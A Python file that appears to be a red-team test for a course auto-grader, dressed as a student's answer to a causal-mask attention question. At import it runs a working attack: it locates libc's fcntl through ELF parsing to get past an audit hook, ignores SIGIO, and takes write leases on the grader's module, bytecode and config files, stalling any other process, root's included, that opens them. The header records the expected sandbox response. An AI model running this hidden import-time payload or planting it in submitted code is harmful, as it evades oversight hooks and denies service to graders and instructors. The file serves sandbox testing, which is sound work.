# attack: under an ordinary user, owns what the instructor owns: takes a write lease (fcntl F_SETLEASE, F_WRLCK: allowed on a file its caller owns, on a descriptor opened for reading) on every file of a module loaded in its process and on its cached bytecode (the kit's own modules, and Python's and torch's wherever the instructor installed them: a venv, conda, pyenv) and on the kit's course.yaml, through libc's fcntl called by a ctypes function pointer from an address (past the audit hook), and ignores SIGIO; while it lives, any other process's open of one of those files, even for reading and even root's (another grading run's imports of the kit, a fresh pristine process, the instructor's editor), blocks until it ends or for the kernel's lease-break-time (45 s) per file; imports and answers right only when it took a lease
# expect: module=q01_causal_mask status=crashed|error match=a forbidden system call|Errno 13\] F_SETLEASE on the grader.s files failed
# path: sandbox user
# reproduced: as kitgrader, a write lease on a file of the user's, then `cat` of it by root blocked 6.6 s, until the holder ended
"""Question 1, written to stall every process that opens the kit's files while it runs."""
import ctypes
import errno
import importlib.util
import os
import signal
import struct
import sys

import torch
from torch import Tensor

F_SETLEASE, F_WRLCK = 1024, 1
HELD = []


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """A write lease on each readable source and bytecode file of the modules this process has loaded, and on the
    kit's course.yaml (its folder found from the zygote's worker.py in this process's command line), each descriptor
    kept open. Landlock lets the child read these files but not list their folders, so the names come from the modules
    themselves."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # the lease's break notice would otherwise end this process at once
    fcntl = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long, use_errno=True)(
        libc_symbol(b"fcntl")
    )
    words = open("/proc/self/cmdline", "rb").read().split(b"\0")
    worker = next(os.fsdecode(w) for w in words if w.endswith(b"worker.py"))
    kit = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(worker))))
    paths = {os.path.join(kit, "course.yaml")}
    for module in list(sys.modules.values()):
        source = getattr(module, "__file__", None)
        if isinstance(source, str):
            paths.add(source)
            if source.endswith(".py"):
                paths.add(importlib.util.cache_from_source(source))
    refused = 0
    for path in sorted(paths):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if fcntl(fd, F_SETLEASE, F_WRLCK) == 0:
            HELD.append(fd)
        else:
            refused = refused or ctypes.get_errno()
            os.close(fd)
    if not HELD:
        raise OSError(refused or errno.ENOENT, "F_SETLEASE on the grader's files failed")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
